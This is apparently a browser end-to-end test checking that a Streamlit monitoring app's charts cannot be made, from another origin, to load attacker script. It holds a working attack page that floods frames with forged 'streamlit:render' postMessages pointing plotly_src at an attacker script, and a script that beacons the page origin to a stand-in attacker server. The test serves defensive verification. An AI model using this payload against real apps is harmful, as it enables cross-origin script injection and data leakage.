"""A page on another origin cannot make the charts run its script (issue 15, point 1).

The attacker's page lives on a second local HTTP server (another port, so another
origin). It frames the app and opens it in a window, then posts Streamlit's component
render message, naming its own script as plotly.js, to every frame it can reach, again
and again while the charts draw. Its script, if it ever runs, reports home with a request
that the attacker's server records. None may arrive.
"""

from __future__ import annotations

import contextlib
import http.server
import threading
import time
from collections.abc import Iterator
from types import SimpleNamespace

import pytest
from playwright.sync_api import Browser, expect

from bench.live_app import free_port
from tests.e2e.charts import live_chart
from tests.fake_runs import make_run

pytestmark = pytest.mark.browser
RUN = "framed"
ATTACK = """<!doctype html><html><body>
<iframe id="framed" src="{app}/monitor?run={run}" width="1200" height="900"></iframe>
<button id="open" onclick="window.opened = window.open('{app}/monitor?run={run}', 'victim')">open</button>
<script>
  const evil = "{evil}/evil.js";
  const render = {{
    isStreamlitMessage: true, type: "streamlit:render",
    args: {{ spec: JSON.stringify({{data: [], layout: {{}}}}), alt: "x", plotly_src: evil }},
    theme: {{}},
  }};
  window.posted = 0;
  function postEverywhere(win) {{
    if (!win) return;
    try {{ win.postMessage(render, "*"); window.posted++; }} catch (e) {{}}
    for (let i = 0; i < win.frames.length; i++) postEverywhere(win.frames[i]);
  }}
  setInterval(function () {{
    postEverywhere(document.getElementById("framed").contentWindow);
    postEverywhere(window.opened);
  }}, 100);
</script></body></html>"""
EVIL_JS = "new Image().src = '{evil}/ran?from=' + encodeURIComponent(location.origin);"


@contextlib.contextmanager
def attacker(app_url: str) -> Iterator[SimpleNamespace]:
    """The attacker's server on another port: its page, its script, and the hits on /ran."""
    port = free_port()
    evil = f"http://127.0.0.1:{port}"
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
            if self.path.startswith("/ran"):
                hits.append(self.path)
            body, kind = {
                "/attack.html": (ATTACK.format(app=app_url, run=RUN, evil=evil), "text/html"),
                "/evil.js": (EVIL_JS.format(evil=evil), "text/javascript"),
            }.get(self.path, ("", "text/plain"))
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.end_headers()
            self.wfile.write(body.encode())

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield SimpleNamespace(url=evil, hits=hits)
    finally:
        server.shutdown()
        server.server_close()


def test_another_origin_cannot_run_its_script_through_a_chart(
    browser: Browser, server: SimpleNamespace
) -> None:
    make_run(server.storage, RUN, 30, n_pruned=3)
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    with attacker(server.url) as evil, contextlib.closing(context):
        page = context.new_page()
        page.goto(f"{evil.url}/attack.html")
        with page.context.expect_page() as opened:
            page.locator("#open").click()
        victim = opened.value
        expect(victim.locator(".st-key-history")).to_be_attached(timeout=60_000)
        deadline = time.monotonic() + 8  # the attack goes on posting while the charts draw and redraw
        while time.monotonic() < deadline and not evil.hits:
            time.sleep(0.25)
        assert page.evaluate("() => window.posted") > 0
        assert evil.hits == [], f"the attacker's script ran in the app: {evil.hits}"
        expect(live_chart(victim, "history")).to_be_visible()  # the charts drew as usual
        expect(victim.get_by_test_id("stException")).to_have_count(0)
